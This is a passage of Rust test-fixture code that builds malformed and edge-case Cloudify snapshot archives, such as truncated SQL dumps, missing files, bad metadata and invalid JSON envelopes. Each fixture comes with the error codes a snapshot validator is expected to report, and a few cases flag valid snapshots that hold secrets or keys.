                meta(z, |m| {
                    m.remove("snapshot_version");
                })
            }),
        );
        self.add(
            "B3",
            "version-one-component",
            &["version-invalid"],
            "snapshot_version '5': Cloudify's parser raises IndexError instead of a clean error.",
            with(l5(), |z| meta_set(z, "snapshot_version", json!("5"))),
        );
        self.add(
            "B3",
            "version-not-strict",
            &["version-not-strict"],
            "snapshot_version '5.1.0.dev1': 3.4.x and 4.0.x managers reject non-numeric components.",
            with(l5(), |z| meta_set(z, "snapshot_version", json!("5.1.0.dev1"))),
        );
        self.add(
            "B7",
            "no-has-cloudify-events",
            &["has-cloudify-events-missing"],
            "A 3.3 snapshot without has_cloudify_events; 3.x restore raises KeyError.",
            with(Snapshot::new(Era::E1).zip(), |z| {
                meta(z, |m| {
                    m.remove("has_cloudify_events");
                })
            }),
        );
        self.add(
            "B8",
            "schema-revision-unknown",
            &["schema-revision-unknown"],
            "schema_revision 'deadbeef0000' is no Cloudify database revision: alembic fails.",
            with(l5(), |z| meta_set(z, "schema_revision", json!("deadbeef0000"))),
        );
        self.add(
            "B8",
            "schema-revision-too-new",
            &["schema-revision-inconsistent"],
            "A 5.1.0 snapshot claiming the 7.0 head revision.",
            with(l5(), |z| meta_set(z, "schema_revision", json!("edd6d829a209"))),
        );
        self.add(
            "B9",
            "stage-revision-noise",
            &["stage-revision-noise"],
            "stage_schema_revision with an npm log line before the migration name (the 4.5.5/4.6 fixtures); 4.6 \
             managers fail Stage restore.",
            with(l5(), |z| {
                let noisy = "Trying to fetch user config from: /opt/cloudify-stage/conf\n\
                             20200123095213-5_1-CreateBlueprintUserData.js";
                meta_set(z, "stage_schema_revision", json!(noisy));
            }),
        );
        self.add(
            "B9",
            "stage-revision-malformed",
            &["stage-revision-malformed"],
            "stage_schema_revision that is not a migration name.",
            with(l5(), |z| meta_set(z, "stage_schema_revision", json!("latest"))),
        );
        self.add(
            "B11",
            "routing-community",
            &["routing-hazard"],
            "A community-edition 5.1.0 snapshot: no stage or composer revision, so 7.0.x routes it to the new-format \
             restore, which restores nothing.",
            Snapshot::new(Era::L5).community().zip(),
        );
        self.add(
            "B11",
            "routing-4.0.1",
            &["routing-hazard"],
            "A premium 4.0.1 snapshot: no composer revision, so 7.0.x takes the new-format path.",
            Snapshot::new(Era::L1).zip(),
        );
        self.add(
            "B12",
            "execution-id-invalid",
            &["execution-id-invalid"],
            "A 7.0.4 snapshot whose execution_id is not a UUID.",
            with(n1(), |z| meta_set(z, "execution_id", json!("12345"))),
        );
        self.add(
            "B13",
            "metadata-unknown-key",
            &["metadata-unknown-key"],
            "metadata.json with a key no Cloudify version writes.",
            with(l5(), |z| meta_set(z, "created_by", json!("backup-script"))),
        );
        self.add(
            "1.2",
            "era-mismatch",
            &["era-mismatch"],
            "A pg_data (4.0+) payload whose metadata claims a 3.4.0 snapshot with has_cloudify_events.",
            with(l5(), |z| {
                meta(z, |m| {
                    m.insert("snapshot_version".into(), json!("3.4.0"));
                    m.insert("has_cloudify_events".into(), json!(true));
                })
            }),
        );
    }

    /// C1–C15: the legacy payload.
    fn legacy_payload(&mut self) {
        self.add(
            "C1",
            "no-pg-data",
            &["payload-missing"],
            "A 5.1.0 snapshot without pg_data; restore's psql -f fails.",
            without(l5(), "pg_data"),
        );
        self.add(
            "C1",
            "no-es-data",
            &["payload-missing"],
            "A 3.3 snapshot without es_data.",
            without(Snapshot::new(Era::E1).zip(), "es_data"),
        );
        self.add(
            "C2",
            "no-agents",
            &["agents-missing"],
            "A 5.1.0 snapshot without agents.json; restore opens it unconditionally.",
            without(l5(), "agents.json"),
        );
        self.add(
            "C2",
            "agents-invalid-json",
            &["agents-invalid"],
            "agents.json cut mid-object.",
            with(l5(), |z| set(z, "agents.json", "{\"default_tenant\": {\"hello-world-dep\"")),
        );
        self.add(
            "C2",
            "agents-leaf-shape",
            &["agents-shape"],
            "An agents.json leaf with neither broker_config nor the five flat broker keys; restore skips the \
             deployment's agents with a KeyError.",
            with(l5(), |z| {
                set(
                    z,
                    "agents.json",
                    py_json(&json!({"default_tenant": {"hello-world-dep": {"vm": {"vm_1": {"version": "5.1.0"}}}}})),
                )
            }),
        );
        let flat = json!({"hello-world-dep": {"vm": {"vm_1": {"version": "5.1.0", "broker_config":
            {"broker_ip": ["10.0.0.1"], "broker_ssl_cert": "", "broker_ssl_enabled": true}}}}});
        self.add(
            "C2",
            "agents-flat-nesting",
            &["agents-shape"],
            "A 5.1.0 agents.json nested like 4.0 (deployment first, no tenant level).",
            with(l5(), |z| set(z, "agents.json", py_json(&flat))),
        );
        let cut = |z: &mut ZipBuilder, name: &str, at: &str| {
            edit_text(z, name, |t| {
                let i = t.find(at).expect("marker in dump");
                t[..i].to_owned()
            })
        };
        self.add(
            "C3",
            "pg-data-unterminated-copy",
            &["sql-dump-truncated"],
            "pg_data cut inside the COPY users block: no '\\.' terminator, no 'dump complete' marker. Both testers \
             pass the zip; restore's psql fails.",
            with(l5(), |z| cut(z, "pg_data", "0\tadmin")),
        );
        self.add(
            "C3",
            "pg-data-no-complete-marker",
            &["sql-dump-truncated"],
            "pg_data whose COPY blocks are complete but which lacks '-- PostgreSQL database dump complete' and the \
             DELETE line.",
            with(l5(), |z| cut(z, "pg_data", "--\n-- PostgreSQL database dump complete")),
        );
        self.add(
            "C3",
            "pg-data-custom-format",
            &["sql-dump-invalid"],
            "pg_data in pg_dump's custom (binary) format instead of plain SQL.",
            with(l5(), |z| {
                set(z, "pg_data", b"PGDMP\x01\x0e\x00\x04\x08\x01\x01\x01\x00\x00\x00\x00\x0b\x00".to_vec())
            }),
        );
        self.add(
            "C3",
            "pg-data-no-delete",
            &["sql-dump-no-delete"],
            "pg_data without the trailing DELETE of the snapshot's own execution.",
            with(l5(), |z| {
                edit_text(z, "pg_data", |t| t[..t.find("\nDELETE FROM").expect("DELETE")].to_owned() + "\n")
            }),
        );
        let kept = "--\n-- Data for Name: provider_context; Type: TABLE DATA; Schema: public; Owner: cloudify\n--\n\n\
                    COPY provider_context (id, name, context) FROM stdin;\n\
                    CLOUDIFY_PROVIDER_CONTEXT\tprovider\t\\\\x80037d71002e\n\\.\n\n\n";
        self.add(
            "C4",
            "pg-data-kept-table",
            &["sql-kept-table"],
            "pg_data with data for provider_context, which restore keeps: the insert clashes.",
            with(l5(), |z| {
                edit_text(z, "pg_data", |t| {
                    let end = t.find("--\n-- PostgreSQL database dump complete").expect("complete marker");
                    format!("{}{kept}{}", &t[..end], &t[end..])
                })
            }),
        );
        self.add(
            "C8",
            "stage-data-truncated",
            &["sql-dump-truncated"],
            "stage_data cut inside a COPY block.",
            with(l5(), |z| cut(z, "stage_data", "\\.\n\n\n--\n-- Data for Name: UserApps")),
        );
        self.add(
            "C5",
            "no-networks",
            &["networks-missing"],
            "A 5.1.0 snapshot without networks.json; the restore validator opens it.",
            without(l5(), "networks.json"),
        );
        self.add(
            "C5",
            "networks-invalid",
            &["networks-invalid"],
            "networks.json without active_networks.",
            with(l5(), |z| set(z, "networks.json", "{\"networks\": 3}")),
        );
        self.add(
            "C6",
            "no-rest-security",
            &["rest-security-missing"],
            "A 5.1.0 snapshot without rest-security.conf.",
            without(l5(), "rest-security.conf"),
        );
        self.add(
            "C6",
            "rest-security-invalid",
            &["rest-security-invalid"],
            "rest-security.conf that is a JSON list.",
            with(l5(), |z| set(z, "rest-security.conf", "[]")),
        );
        self.add(
            "C6",
            "encryption-key-short",
            &["encryption-key-invalid"],
            "rest-security.conf whose encryption_key decodes to 20 bytes.",
            with(l5(), |z| edit_json(z, "rest-security.conf", |v| v["encryption_key"] = json!(base64(&[7; 20], true)))),
        );
        self.add(
            "C7",
            "no-admin-account",
            &["admin-account-missing"],
            "A 5.1.0 snapshot without admin_account.json.",
            without(l5(), "admin_account.json"),
        );
        self.add(
            "C7",
            "admin-account-invalid",
            &["admin-account-invalid"],
            "admin_account.json without a password.",
            with(l5(), |z| set(z, "admin_account.json", " {\"id\":0,\"username\":\"admin\"}\n\n")),
        );
        self.add(
            "C7",
            "hash-salt-without-admin",
            &["admin-account-missing"],
            "A 4.3 snapshot with hash_salt.json but no admin_account.json: restore needs both.",
            without(Snapshot::new(Era::L2).zip(), "admin_account.json"),
        );
        self.add(
            "C8",
            "no-stage-data",
            &["stage-data-missing"],
            "A premium 5.1.0 snapshot without stage_data: premium managers fail the restore.",
            without(l5(), "stage_data"),
        );
        self.add(
            "C8",
            "no-composer-data",
            &["composer-data-missing"],
            "A premium 5.1.0 snapshot without composer_data.",
            without(l5(), "composer_data"),
        );
        self.add(
            "C12",
            "es-data-bad-lines",
            &["es-data-line-invalid"],
            "es_data with a non-JSON line and a line of unknown _type; 4.x conversion skips them with a warning.",
            with(Snapshot::new(Era::E2).zip(), |z| {
                edit_text(z, "es_data", |t| {
                    t + "this line is not json\n{\"_index\": \"cloudify_storage\", \"_type\": \"widget\", \"_id\": \
                     \"w\", \"_source\": {}}\n"
                })
            }),
        );
        self.add(
            "C13",
            "credentials-without-agent-key",
            &["credentials-layout"],
            "A snapshot-credentials/ folder holding key.pem instead of agent_key.",
            l5().push(Entry::file("snapshot-credentials/default_tenant_hello-world-dep_db/key.pem", "not a key\n")),
        );
        self.add(
            "C14",
            "restore-time-file",
            &["restore-time-file"],
            "license.json, which only restore creates (in its temp dir): the archive was assembled by hand.",
            l5().push(Entry::file("license.json", "{}")),
        );
        self.add(
            "C15",
            "influxdb-data",
            &["influxdb-ignored"],
            "influxdb_data in a 5.1.0 snapshot; restore ignores it from 5.0 on.",
            l5().push(Entry::file(
                "influxdb_data",
                "{\"name\": \"cpu\", \"columns\": [\"time\"], \"points\": [[1]]}\n",
            )),
        );
    }

    /// D1–D13: the new payload.
    fn new_payload(&mut self) {
        const T: &str = "tenants/default_tenant/";
        self.add(
            "D1",
            "n0-archive",
            &["new-format-variant"],
            "A 7.0.0 new-format (N0) archive: only 7.0.0 managers understand mgmt/<type>/<i>.json.",
            Snapshot::new(Era::N0).zip(),
        );
        self.add(
            "D2",
            "tenant-dir-missing",
            &["tenant-dir-missing"],
            "A 7.0.4 snapshot without the tenants/default_tenant/ directory entry: restore never discovers the \
             tenant and silently skips its data.",
            without(n1(), T),
        );
        self.add(
            "D2",
            "tenant-empty",
            &["tenant-empty"],
            "A tenants/empty-tenant/ directory entry with no files: 7.0.1–7.0.4 restore probably crashes with \
             TypeError.",
            with(n1(), |z| {
                let i = z.find(T).expect("tenant dir");
                z.entries.insert(i, Entry::dir("tenants/empty-tenant/"));
            }),
        );
        self.add(
            "D3",
            "envelope-not-object",
            &["envelope-invalid"],
            "tenants/default_tenant/00000001.json is a JSON list, not {type, items}.",
            with(n1(), |z| set(z, "tenants/default_tenant/00000001.json", "[1, 2]")),
        );
        self.add(
            "D3",
            "envelope-invalid-json",
            &["envelope-invalid"],
            "tenants/default_tenant/00000001.json cut mid-object; json.load crashes the restore.",
            with(n1(), |z| set(z, "tenants/default_tenant/00000001.json", "{\"type\": \"sites\", \"items\": [")),
        );
        self.add(
            "D4",
            "envelope-unknown-type",
            &["envelope-unknown-type"],
            "A dump of type 'widgets', which restore silently ignores.",
            with(n1(), |z| {
                let i = z.find("tenants/default_tenant/00000011.json").expect("last dump") + 1;
                z.entries
                    .insert(i, Entry::file("tenants/default_tenant/00000012.json", envelope("widgets", &json!([]))));
            }),
        );
        self.add(
            "D4",
            "mgmt-tenant-type",
            &["envelope-unknown-type"],
            "A blueprints dump under mgmt/, which holds only tenants, permissions, user_groups and users.",
            with(n1(), |z| {
                let i = z.find("mgmt/00000004.json").expect("users dump") + 1;
                z.entries.insert(
                    i,
                    Entry::file(
                        "mgmt/00000005.json",
                        envelope("blueprints", &json!([{"id": "x", "main_file_name": "b.yaml"}])),
                    ),
                );
            }),
        );
        self.add(
            "D5",
            "blueprint-without-id",
            &["envelope-item-invalid"],
            "A blueprints item without id: restore crashes with KeyError.",
            with(n1(), |z| {
                set(
                    z,
                    "tenants/default_tenant/00000004.json",
                    envelope(
                        "blueprints",
                        &json!([{"main_file_name": "blueprint.yaml", "created_at": "2024-05-17T12:00:00.000Z"}]),
                    ),
                )
            }),
        );
        self.add(
            "D5",
            "plugin-without-uploaded-at",
            &["envelope-item-invalid"],
            "A plugins item without uploaded_at, which the client's restore() requires.",
            with(n1(), |z| {
                edit_json(z, "tenants/default_tenant/00000002.json", |v| {
                    v["items"][0].as_object_mut().expect("item").remove("uploaded_at");
                })
            }),
        );
        self.add(
            "D6",
            "blueprint-archive-missing",
            &["blueprint-archive-missing"],
            "The hello-world blueprint item without tenants/default_tenant/blueprints/hello-world.tar.gz.",
            without(n1(), "tenants/default_tenant/blueprints/hello-world.tar.gz"),
        );
        self.add(
            "D7",
            "plugin-archive-missing",
            &["plugin-archive-missing"],
            "A plugin item without its tenants/default_tenant/plugins/<id>.zip.",
            with(n1(), |z| z.remove_prefix("tenants/default_tenant/plugins/")),
        );
        self.add(
            "D8",
            "b64zip-not-base64",
            &["nested-archive-invalid"],
            "A deployment workdir .b64zip that is not base64.",
            with(n1(), |z| {
                let e = z.entries.iter_mut().find(|e| e.name.ends_with(b".b64zip")).expect("b64zip");
                e.data = b"!!! not base64 !!!".to_vec();
            }),
        );
        self.add(
            "D9",
            "composer-two-archives",
            &["composer-blueprints-count"],
            "composer/ with blueprints.zip and blueprints.tar.gz: restore cannot pick the snapshot.",
            n1().push(Entry::file("composer/blueprints.tar.gz", tar_gz(&[("x/blueprint.yaml", b"x")]))),
        );
        self.add(
            "D9",
            "composer-no-metadata",
            &["composer-blueprints-count"],
            "composer/ without blueprints.json: 'Cannot find blueprints' metadata in composer snapshot'.",
            without(n1(), "composer/blueprints.json"),
        );
        self.add(
            "D10",
            "stage-unknown-entity",
            &["stage-entry-unexpected"],
            "stage/unknown-entity.json, not a Stage entity.",
            n1().push(Entry::file("stage/unknown-entity.json", envelope("unknown-entity", &json!([])))),
        );
        self.add(
            "D10",
            "stage-unknown-tenant",
            &["stage-entry-unexpected"],
            "stage/ghost-tenant/ua.json for a tenant the snapshot does not hold.",
            with(n1(), |z| {
                z.entries.push(Entry::dir("stage/ghost-tenant/"));
                z.entries.push(Entry::file("stage/ghost-tenant/ua.json", envelope("ua", &json!([]))));
            }),
        );
        self.add(
            "D11",
            "nodes-without-source",
            &["envelope-source-missing"],
            "A nodes dump without source_id.",
            with(n1(), |z| {
                set(
                    z,
                    "tenants/default_tenant/00000006.json",
                    envelope(
                        "nodes",
                        &json!([{"id": "vm", "type": "cloudify.nodes.Compute", "number_of_instances": 1}]),
                    ),
                )
            }),
        );
        self.add(
            "D11",
            "events-without-source",
            &["envelope-source-missing"],
            "An events dump without source (executions or execution_groups).",
            with(n1(), |z| {
                edit_json(z, "tenants/default_tenant/00000010.json", |v| {
                    v.as_object_mut().expect("envelope").remove("source");
                })
            }),
        );
        self.add(
            "D12",
            "deployment-dangling-blueprint",
            &["dangling-reference"],
            "A deployment whose blueprint_id names a blueprint the snapshot does not hold.",
            with(n1(), |z| {
                edit_json(z, "tenants/default_tenant/00000005.json", |v| {
                    v["items"][0]["blueprint_id"] = json!("missing-bp")
                })
            }),
        );
        self.add(
            "D13",
            "unexpected-root-file",
            &["unexpected-file"],
            "notes.txt at the root of a new-format snapshot; restore logs 'Unexpected file' and skips it.",
            n1().push(Entry::file("notes.txt", "remember to restore on 7.0.4\n")),
        );
    }

    /// S1–S3: the security inventory of valid snapshots.
    fn security(&mut self) {
        self.add(
            "S1",
            "new-format-secrets",
            &["secrets-in-clear", "password-hashes"],
            "A valid 7.0.4 snapshot: secrets, tenant and agent RabbitMQ passwords in clear, user password hashes.",
            n1(),
        );
        self.add(
            "S1",
            "legacy-broker-credentials",
            &["secrets-in-clear"],
            "A valid 4.3 snapshot: broker credentials in clear in agents.json, secrets in clear in pg_data.",
            Snapshot::new(Era::L2).zip(),
        );
        self.add(
            "S2",
            "legacy-key-material",
            &["key-material"],
            "A valid 5.1.0 snapshot: ssl/*key*.pem, agent keys and rest-security.conf (which decrypts every secret).",
            l5(),
        );
        self.add(
            "S3",
            "stage-db-url",
            &["secrets-in-clear"],
            "A valid 5.0.5 snapshot whose stage/conf/app.json and composer prod.json hold database URLs with \
             passwords.",
            Snapshot::new(Era::L4).zip(),
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashSet;

    #[test]
    fn cases_build_with_unique_names() {
        let cases = cases();
        assert!(cases.len() > 100, "{} cases", cases.len());
        let mut names = HashSet::new();
        for c in &cases {
            assert!(names.insert(c.name), "duplicate case name {}", c.name);
            assert!(!c.expect.is_empty() && !c.about.is_empty(), "{}", c.name);
            assert!(!c.bytes.is_empty() || c.name == "empty-file", "{}", c.name);
        }
    }

    #[test]
    fn cases_are_deterministic() {
        let (a, b) = (cases(), cases());
        for (x, y) in a.iter().zip(&b) {
            assert!(x.bytes == y.bytes, "{} differs between runs", x.name);
        }
    }

    /// The expected codes must exist in `snapshot-core`'s catalogue (read as text: this crate
    /// does not depend on the core).
    #[test]
    fn expected_codes_exist_in_the_catalogue() {
        let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../snapshot-core/src/code.rs");
        let src = std::fs::read_to_string(path).expect("snapshot-core/src/code.rs is readable");
        let codes: HashSet<&str> = src.split("= \"").skip(1).filter_map(|s| s.split('"').next()).collect();
        for c in cases() {
            for code in c.expect {
                assert!(codes.contains(code), "{}: unknown code {code}", c.name);
            }
        }
        for code in FULL_CODES {
            assert!(codes.contains(code), "FULL_CODES: unknown code {code}");
        }
    }
}
